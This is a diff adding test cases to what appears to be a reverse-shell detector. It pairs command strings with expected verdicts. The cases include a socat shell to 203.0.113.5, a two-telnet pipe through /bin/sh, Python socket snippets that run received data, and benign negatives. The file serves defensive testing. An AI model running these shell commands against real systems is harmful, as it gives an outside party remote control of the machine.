@@ -13,6 +13,10 @@ CASES = [
     (b"socat TCP:203.0.113.5:443 EXEC:'/bin/bash',pty,stderr", "socat", True),
     (b"nc -z db 5432 && echo ready", "waiting for a port", False),
     (b"import socket, subprocess\nsubprocess.run(['ls'])\n", "two imports", False),
+    (b"telnet 203.0.113.5 80 | /bin/sh | telnet 203.0.113.5 25\n", "two telnets", True),
+    (b"s=socket.socket()\ns.connect(a)\nc=s.recv(99)\nos.popen(c)\n", "no pair of an address", False),
+    (b"s=socket.socket()\ns.connect((h,1))\nd = s.recv(1024)\nsubprocess.run(cmd, shell=True)\n", "obeys", True),
+    (b"awk -F: '{print $1}' /etc/passwd | while read x; do echo $x; done\n", "an ordinary awk", False),
 ]
 
 
